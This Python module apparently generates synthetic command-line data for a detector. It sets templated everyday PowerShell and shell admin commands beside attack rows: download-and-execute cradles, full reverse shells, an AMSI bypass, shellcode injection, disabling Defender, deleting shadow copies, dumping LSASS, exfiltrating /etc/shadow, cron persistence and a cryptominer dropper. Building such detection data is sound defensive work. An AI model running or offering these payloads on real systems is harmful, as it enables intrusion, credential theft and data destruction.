"""Scripts that travel encoded inside command lines and requests: PowerShell and shell, daily work and attack.

Rows in the language of table.py; slots.py encodes them.
"""
from __future__ import annotations

PS_DAILY = tuple(r"""
Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object LastBootUpTime | ConvertTo-Json
$ErrorActionPreference='Stop'; Get-WmiObject Win32_LogicalDisk -Filter "DriveType=3" | Select DeviceID,Size,FreeSpace
Import-Module ConfigurationManager; Get-CMDevice -Name «host» | Select Name,LastActiveTime
$s = Get-Service -Name «spooler|W32Time|wuauserv|BITS|MSSQLSERVER|W3SVC»; if ($s.Status -ne 'Running') { Start-Service $s }
Get-HotFix | Sort-Object InstalledOn -Descending | Select -First 1
& {$exitCode = 0; if (Test-Path 'HKLM:\SOFTWARE\«Word»\«Word»') { $exitCode = 1 }; exit $exitCode}
Get-ChildItem -Path D:\Backup\«word» -Recurse | Where-Object {$_.LastWriteTime -lt (Get-Date).AddDays(-«num:7:90»)} | Remove-Item -Force
Set-Location C:\Windows\CCM\SystemTemp; $app = Get-ItemProperty 'HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\*' | Where DisplayName -like '*«Word»*'; $app.DisplayVersion
Get-ADUser -Filter * -SearchBase "OU=«dept»,DC=«site»,DC=local" -Properties mail | Export-Csv \\«server»\reports\users_«date».csv -NoTypeInformation
Restart-Computer -ComputerName «host» -Force -Wait -For PowerShell -Timeout 300
(Get-Counter '\Processor(_Total)\% Processor Time').CounterSamples.CookedValue
Get-Printer | Where PrinterStatus -ne 'Normal' | ConvertTo-Json -Compress
$ProgressPreference='SilentlyContinue'; Invoke-WebRequest -Uri https://«server».«sitedomain»/packages/«word»-«num:1:9».«num:0:20».msi -OutFile C:\ProgramData\«Word»\setup.msi -UseBasicParsing
begin { $path='C:\Windows\Temp\ansible'; $ProgressPreference = "SilentlyContinue"; $ErrorActionPreference = "Stop"; Set-StrictMode -Version 2 } process { }
&chcp.com 65001 > $null; $exec_wrapper_str = $input | Out-String; $split_parts = $exec_wrapper_str.Split(@("`0`0`0`0"), 2, [StringSplitOptions]::RemoveEmptyEntries)
Get-EventLog -LogName System -EntryType Error -Newest 50 | Format-Table -AutoSize
if ((Get-BitLockerVolume -MountPoint C:).ProtectionStatus -eq 'On') { exit 0 } else { exit 1 }
Get-NetAdapter | Where Status -eq Up | Get-NetIPAddress -AddressFamily IPv4 | Select IPAddress
Update-MpSignature; Get-MpComputerStatus | Select AntivirusSignatureLastUpdated
Get-MailboxStatistics -Database «Word»DB | Sort TotalItemSize -Desc | Select -First 20
Optimize-Volume -DriveLetter «C|D|E» -Verbose
Get-VM | Where State -eq Running | Checkpoint-VM -SnapshotName "Nightly «date:%Y-%m-%d»"
New-PSDrive -Name P -PSProvider FileSystem -Root \\«server»\profiles -Persist
$cert = Get-ChildItem Cert:\LocalMachine\My | Where {$_.NotAfter -lt (Get-Date).AddDays(30)}; $cert | Format-List Subject,NotAfter
""".strip().splitlines())

PS_ATTACKS = tuple(r"""
IEX (New-Object Net.WebClient).DownloadString('http://«peer»«|:8080|:8000|:«port»»/«letters:1:8».ps1')
IEX(IWR -UseBasicParsing https://«domain»/«token:6»)
$c = New-Object System.Net.Sockets.TCPClient('«peer»',«port»);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$r = (iex $d 2>&1 | Out-String );$s.Write(([text.encoding]::ASCII.GetBytes($r)),0,$r.Length)};$c.Close()
[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true);IEX (New-Object Net.WebClient).DownloadString('http://«domain»/«word».ps1')
$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA«b64:60»'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true};$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');$wc.Proxy=[Net.WebRequest]::DefaultWebProxy;iex $wc.DownloadString('https://«peer»/«token:5»')
If($PSVersionTable.PSVersion.Major -ge 3){$Ref=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$Ref.GetField('amsiInitFailed','NonPublic,Static').Setvalue($Null,$true);[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;$ser='http://«peer»:«port»';$t='/«word»/get.php'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d); [Byte[]]$z = 0xfc,0xe8,0x«hex:2»,0x«hex:2»,0x«hex:2»; $x=$w::VirtualAlloc(0,0x1000,$z.Length,0x40); $w::CreateThread(0,0,$x,0,0,0)
$a=[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://«domain»/«word».bin'));$a.EntryPoint.Invoke($null,@(,[string[]]@()))
Add-MpPreference -ExclusionPath 'C:\'; Set-MpPreference -DisableRealtimeMonitoring $true; Start-BitsTransfer http://«peer»/«token:6».exe $env:TEMP\«token:6».exe; Start-Process $env:TEMP\«token:6».exe
powershell -nop -w hidden -c "IEX((new-object net.webclient).downloadstring('http://«peer»:«port»/a'))"
Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}
rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id $env:TEMP\«word».dmp full
$k=(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/«mixed:8»');Invoke-Expression $k
(New-Object System.Net.WebClient).UploadFile('http://«peer»/up.php', "$env:TEMP\«word».zip")
""".strip().splitlines())

SHELL_DAILY = tuple(r"""
#!/bin/sh\nset -e\napt-get update && apt-get install -y «curl|jq|nginx|python3|vim»
{"version":"«num:1:9».«num:0:30»","feature":"«word»","enabled":true}
user=«person»;theme=dark;lang=en;last=«date:%Y-%m-%d»
{"alg":"HS256","typ":"JWT"}
export PATH=$PATH:/usr/local/bin; cd /opt/«word» && make «build|test|install»
{"page":«num:1:40»,"sort":"«word»","dir":"asc"}
#cloud-config\nhostname: «linux»\npackages:\n  - «chrony|htop|rsync»
systemctl status «nginx|mysql|docker|postgresql» --no-pager
""".strip().splitlines())

SHELL_ATTACKS = tuple(r"""
bash -i >& /dev/tcp/«peer»/«port» 0>&1
curl -fsSL http://«peer»/«word».sh | bash
wget -q -O - http://«domain»/«letters:2».sh | sh
rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc «peer» «port» >/tmp/f
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("«peer»",«port»));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
(curl -s «peer»/x86_64 -o /tmp/.x || wget -q «peer»/x86_64 -O /tmp/.x); chmod 777 /tmp/.x; /tmp/.x «peer»:«port»
echo '* * * * * root curl http://«peer»/«letters:3» | sh' >> /etc/crontab
cat /etc/shadow | nc «peer» «port»
pkill -9 kinsing; pkill kdevtmpfsi; cd /tmp; curl -O http://«peer»/xmrig; chmod +x xmrig; ./xmrig -o pool.«domain»:3333 -u «mixed:95»
""".strip().splitlines())
